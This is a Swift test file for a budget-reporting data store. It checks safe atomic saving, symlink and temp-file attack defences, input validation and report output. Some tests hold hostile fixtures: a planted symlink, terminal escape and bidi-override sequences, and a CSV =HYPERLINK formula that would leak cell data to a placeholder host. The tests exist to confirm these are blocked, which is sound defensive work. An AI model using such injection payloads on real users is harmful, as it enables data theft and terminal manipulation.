import Foundation
import Model
import GudangBerkas
import Pelaporan
import Testing
#if canImport(Glibc)
import Glibc
#endif

/// The file store loses nothing and exposes nothing (issue "nothing lost, nothing leaked"),
/// on the real file system.
@Suite(.serialized) struct BerkasAmanTests {
    let folder: URL
    let path: String

    init() throws {
        folder = try Sampel.folder()
        path = folder.appendingPathComponent("d.json").path
        try FileManager.default.copyItem(atPath: Sampel.path, toPath: path)
    }

    func stat(_ p: String) -> stat {
        var info = Glibc.stat()
        lstat(p, &info)
        return info
    }

    func shelter(_ d: Dokumen) -> RefIndikator { .simpul(d.indeks(kode: "1.06.06.2.01.03")!, 0) }

    // 1. Never rename over a file that changed since it was read.
    @Test func aSaveOverAFileChangedSinceItWasReadIsRefused() throws {
        let (mine, base) = try Penyimpan.muatDenganSidik(path)
        let theirs = try Penyimpan.muat(path)
        theirs.ubah(shelter(theirs), .realisasi(tw: 4), 7)
        try Penyimpan.simpan(theirs, ke: path)
        let written = try Data(contentsOf: URL(fileURLWithPath: path))
        mine.ubah(shelter(mine), .target(tw: 4), 9)
        #expect(throws: GalatBerkas(berkas: path, pesan: .berubahSejakDibaca)) { try Penyimpan.simpan(mine, ke: path, dasar: base) }
        #expect(try Data(contentsOf: URL(fileURLWithPath: path)) == written)
    }

    // 5. A same-size change with the modification time put back is still seen.
    @Test func aChangeThatKeepsSizeAndMtimeIsSeen() throws {
        let (_, base) = try Penyimpan.muatDenganSidik(path)
        let before = stat(path)
        var text = try String(contentsOfFile: path, encoding: .utf8)
        text = text.replacingOccurrences(of: "\"target\": 78", with: "\"target\": 79")
        try text.write(toFile: path, atomically: false, encoding: .utf8)
        var times = [before.st_atim, before.st_mtim]
        utimensat(AT_FDCWD, path, &times, 0)
        #expect(stat(path).st_size == before.st_size)
        #expect(stat(path).st_mtim.tv_nsec == before.st_mtim.tv_nsec && stat(path).st_mtim.tv_sec == before.st_mtim.tv_sec)
        #expect(!base.masihSama(path))
        // Touching alone (same bytes) is not a change.
        let (_, again) = try Penyimpan.muatDenganSidik(path)
        utimensat(AT_FDCWD, path, nil, 0)
        #expect(again.masihSama(path))
    }

    // 6. Owner and group are kept; a symlink stays a symlink and its target gets the edit.
    @Test func savingKeepsOwnerGroupAndSavesThroughASymlink() throws {
        #expect(chown(path, 12345, 23456) == 0)
        let d = try Penyimpan.muat(path)
        d.ubah(shelter(d), .realisasi(tw: 4), 1)
        try Penyimpan.simpan(d, ke: path)
        #expect(stat(path).st_uid == 12345)
        #expect(stat(path).st_gid == 23456)

        let link = folder.appendingPathComponent("tautan.json").path
        #expect(symlink(path, link) == 0)
        let viaLink = try Penyimpan.muat(link)
        viaLink.ubah(shelter(viaLink), .realisasi(tw: 4), 2)
        try Penyimpan.simpan(viaLink, ke: link)
        #expect(stat(link).st_mode & S_IFMT == S_IFLNK)
        let real = try Penyimpan.muat(path)
        #expect(real.indikator(shelter(real)).triwulan[3].realisasi == 2)
        #expect(FileManager.default.fileExists(atPath: path + ".bak"))
    }

    // 7. A write-protected file is not written, even by root.
    @Test func aWriteProtectedFileIsRefused() throws {
        chmod(path, 0o444)
        #expect(throws: GalatBerkas.self) { try Penyimpan.periksaBolehTulis(path) }
        let d = try Penyimpan.muat(path)
        #expect(throws: GalatBerkas.self) { try Penyimpan.simpan(d, ke: path, dasar: nil) }
    }

    // 9. Temp files of processes that are gone are cleaned up; a live one's stays.
    @Test func staleTempFilesAreRemovedAtTheNextSave() throws {
        let dead = folder.appendingPathComponent(".d.json.tmp-99999999-0badf00d").path
        let old = folder.appendingPathComponent(".d.json.tmp-99999998").path
        let live = folder.appendingPathComponent(".d.json.tmp-\(getpid())-12345678").path
        for p in [dead, old, live] { FileManager.default.createFile(atPath: p, contents: Data(repeating: 65, count: 1000)) }
        let d = try Penyimpan.muat(path)
        try Penyimpan.simpan(d, ke: path)
        #expect(!FileManager.default.fileExists(atPath: dead))
        #expect(!FileManager.default.fileExists(atPath: old))
        #expect(FileManager.default.fileExists(atPath: live))
    }

    // 10. A symlink planted at the old predictable temp name is not followed.
    @Test func aPlantedSymlinkAtTheTempNameIsNotFollowed() throws {
        let victim = folder.appendingPathComponent("korban.txt").path
        try Data("rahasia".utf8).write(to: URL(fileURLWithPath: victim))
        chmod(victim, 0o600)
        #expect(symlink(victim, folder.appendingPathComponent(".d.json.tmp-\(getpid())").path) == 0)
        let d = try Penyimpan.muat(path)
        try Penyimpan.simpan(d, ke: path)
        #expect(try String(contentsOfFile: victim, encoding: .utf8) == "rahasia")
        #expect(stat(victim).st_mode & 0o777 == 0o600)
    }

    // 11. New files beside the data file take its mode, within the umask.
    @Test func newFilesTakeTheDataFilesMode() throws {
        chmod(path, 0o600)
        let out = folder.appendingPathComponent("laporan.csv").path
        try Penyimpan.tulisAtomik(Data("a,b\r\n".utf8), ke: out, cadangan: false, seperti: path)
        #expect(stat(out).st_mode & 0o777 == 0o600)
        let d = try Penyimpan.muat(path)
        let copy = try Pulih.tulis(SalinanPulih(berkas: path, dasar: nil, waktu: Date(), perubahan: [], data: d.berkas()), untuk: path, sesi: "99999999-1")
        #expect(stat(copy).st_mode & 0o777 == 0o600)
    }

    // 2. Outputs may not land on the data file, its backup or a recovery copy, under any name.
    @Test func anOutputOverTheDataFileIsRefused() throws {
        let soft = folder.appendingPathComponent("lain.json").path
        let hard = folder.appendingPathComponent("keras.json").path
        symlink(path, soft)
        Glibc.link(path, hard)
        for out in [path, path + ".bak", path + ".pulih.123-4", soft, hard, folder.path + "/./d.json"] {
            #expect(throws: GalatBerkas.self, "\(out)") { try Penyimpan.periksaKeluaran(out, bukan: path) }
        }
        try Penyimpan.periksaKeluaran(folder.appendingPathComponent("laporan.csv").path, bukan: path)
    }

    // 3. Unknown keys, with the path and a did-you-mean; repeated keys.
    @Test("Unknown and repeated keys are refused with their place", arguments: [
        ("\"paguMurni\": 41970000", "\"paguMurni\": 41970000, \"paguPerubahn\": 1",
         "program[5].kegiatan[0].subKegiatan[2].anggaran.paguPerubahn (baris 2480, kolom 40): kolom 'paguPerubahn' tidak dikenal; maksud Anda 'paguPerubahan'?"),
        ("\"realisasi\": 8", "\"realisai\": 8",
         "program[0].kegiatan[1].tertulis.realisai (baris 372, kolom 13): kolom 'realisai' tidak dikenal; maksud Anda 'realisasi'? kolom yang dikenal di sini: pagu, realisasi, usang."),
        ("\"tahun\": 2023", "\"tahun\": 2023, \"tambahanKantor\": \"x\"", "tambahanKantor (baris 3235, kolom 18): kolom 'tambahanKantor' tidak dikenal; kolom yang dikenal di sini: kunci, opd, program, renstra"),
        ("\"tahun\": 2023", "\"tahun\": 2023, \"tahun\": 2024", "tahun (baris 3235, kolom 18): kolom 'tahun' muncul dua kali"),
    ])
    func unknownKeys(from: String, to: String, expected: String) throws {
        let text = try String(contentsOfFile: Sampel.path, encoding: .utf8)
        let first = try #require(text.range(of: from))
        try Data(text.replacingCharacters(in: first, with: to).utf8).write(to: URL(fileURLWithPath: path))
        var message = ""
        do { _ = try Penyimpan.muat(path) } catch { message = error.teks(.id) }
        #expect(message.contains(expected), "\(message)")
    }

    // 14. Years out of range.
    @Test("Years out of range are refused", arguments: [
        ("\"tahunAkhir\": 2026", "\"tahunAkhir\": 2026000", "renstra.tahunAkhir: tahun 2026000 di luar rentang 2000-2100"),
        ("\"tahunAkhir\": 2026", "\"tahunAkhir\": 4611686018427387904", "renstra.tahunAkhir (baris 2748, kolom 19): angka 4611686018427387904 di luar jangkauan model"),
        ("\"tahunAwal\": 2021", "\"tahunAwal\": -4611686018427387904", "renstra.tahunAwal (baris 2749, kolom 18): angka -4611686018427387904 di luar jangkauan model"),
        ("\"tahunAkhir\": 2026", "\"tahunAkhir\": 2040", "Renstra 2021-2040 tidak sah"),
        ("\"tahun\": 2023", "\"tahun\": 1023", "tahun: tahun 1023 di luar rentang"),
    ])
    func years(from: String, to: String, expected: String) throws {
        let text = try String(contentsOfFile: Sampel.path, encoding: .utf8)
        try Data(text.replacingOccurrences(of: from, with: to).utf8).write(to: URL(fileURLWithPath: path))
        var message = ""
        do { _ = try Penyimpan.muat(path) } catch { message = error.teks(.id) }
        #expect(message.contains(expected), "\(message)")
    }

    // 15. Messages that point the right way.
    @Test func messagesPointTheRightWay() throws {
        let fifo = folder.appendingPathComponent("pipa.json").path
        mkfifo(fifo, 0o600)
        for special in [fifo, "/dev/zero"] {
            do { _ = try Penyimpan.muat(special); Issue.record("must fail") } catch {
                #expect(error.teks(.id).hasSuffix("bukan berkas biasa (folder, FIFO atau perangkat); sebutkan berkas data .json"))
            }
        }
        let text = try String(contentsOfFile: Sampel.path, encoding: .utf8)
        try Data(text.replacingOccurrences(of: "\"paguMurni\": 41970000", with: "\"paguMurni\": 1e400").utf8).write(to: URL(fileURLWithPath: path))
        do { _ = try Penyimpan.muat(path); Issue.record("must fail") } catch {
            #expect(error.teks(.id) == path + ": program[5].kegiatan[0].subKegiatan[2].anggaran.paguMurni (baris 2480, kolom 30): angka 1e400 di luar jangkauan model (paling besar 10^15); periksa nilainya")
        }
        try Data("{".utf8).write(to: URL(fileURLWithPath: path))
        do { _ = try Penyimpan.muat(path) } catch { #expect(error.teks(.id).contains("tidak ada cadangan \(path).bak")) }
        try Data("x".utf8).write(to: URL(fileURLWithPath: path + ".bak"))
        do { _ = try Penyimpan.muat(path) } catch { #expect(error.teks(.id).contains("pulihkan dari cadangan \(path).bak")) }
    }

    // 16. A blank budget realisation is blank everywhere.
    @Test func aBlankBudgetRealisationIsBlank() throws {
        let d = try Penyimpan.muat(path)
        let node = d.indeks(kode: "1.06.04.2.02.05")!
        #expect(d.anggaran(node).realisasiSd(4) == nil)
        #expect(d.anggaran(node).realisasiTW(1) == nil)
        let text = Rincian.teks(d, .simpul(node), tw: 4, bahasa: .id)
        let spent = text.split(separator: "\n").filter { $0.hasPrefix("  Realisasi") || $0.hasPrefix("  Serapan") || $0.hasPrefix("  Selisih") }
        #expect(spent.count == 7)
        #expect(spent.allSatisfy { $0.hasSuffix(" -") }, "\(spent)")
        let json = Rincian.json(d, .simpul(node), tw: 4).render()
        #expect(json.contains("\"realisasi\": null"))
        #expect(!json.contains("\"realisasi\": 0"))
        for laporan in [Laporan.triwulan, .pengukuran] {
            let csv = laporan.tabel(d, tw: 4).csv()
            let row = try #require(csv.split(separator: "\r\n").first { $0.contains("1.06.04.2.02.05,") })
            #expect(!row.contains(",0,") && !row.hasSuffix(",0"), "\(laporan): \(row)")
        }
    }

    // 17. s.d. TW IV follows the quarterly targets; the year the yearly target; check warns.
    @Test func sdTW4UsesTheQuarterlyTargets() throws {
        var ind = Indikator(uraian: "x", satuan: "orang", agregasi: .jumlah, target: 5)
        for (q, (t, r)) in [(4, 2), (3, 2), (3, 1), (3, 1)].enumerated() {
            ind.triwulan[q].target = Decimal(t)
            ind.triwulan[q].realisasi = Decimal(r)
        }
        #expect(ind.capaian(sd: 4).teks == "46,15")
        #expect(ind.capaian(sd: 3).teks == "50,00")
        #expect(ind.capaianTahun.teks == "120,00")
        let d = try Penyimpan.muat(path)
        let ref = shelter(d)
        d.ubah(ref, .target(tw: 4), 20)
        let warnings = Pemeriksa.periksa(d)
        #expect(warnings.contains { $0.tempat == "1.06.06.2.01.03 indikator 1" && $0.pesan.id.hasPrefix("target triwulan (digabung secara jumlah) 23 berbeda dengan target tahunan 5") })
    }

    // 12. Text to a terminal: controls and bidi overrides become visible.
    @Test func hostileTextIsNeutralised() {
        let name = "Penyediaan\u{1B}]0;pwned\u{07}\u{1B}[2J\u{9B}6n\u{202E}kiri"
        let safe = TeksAman.aman(name)
        #expect(safe == "Penyediaan?]0;pwned??[2J?6n?kiri")
        #expect(LebarTampilan.lebar(name) == safe.count)
        #expect(TeksAman.aman("a\nb\tc") == "a\nb\tc")
        #expect(TeksAman.aman("a\nb", barisBaru: false) == "a?b")
    }

    // 13. CSV cells cannot run as formulas; numbers are left alone.
    @Test func csvTextCellsCannotRunAsFormulas() throws {
        let table = Tabel(judul: Pesan(id: "t", en: "t"),
                          kolom: [Tabel.Kolom("nama", Pesan(id: "n", en: "n"), .teks), Tabel.Kolom("nilai", Pesan(id: "v", en: "v"), .angka)],
                          baris: [[.teks("=HYPERLINK(\"http://x/?\"&A1,\"klik\")"), .angka(-5)], [.teks("+1"), .angka(2)],
                                  [.teks("-x"), .angka(nil)], [.teks("@SUM(A1)"), .angka(1)], [.teks("\tx"), .angka(1)], [.teks("aman"), .angka(1)]])
        #expect(table.csv() == "nama,nilai\r\n\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"klik\"\")\",-5\r\n'+1,2\r\n'-x,\r\n'@SUM(A1),1\r\n'\tx,1\r\naman,1\r\n")
        #expect(table.csv(excel: true).hasPrefix("nama;nilai\r\n\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"klik\"\")\";-5\r\n"))
    }
}
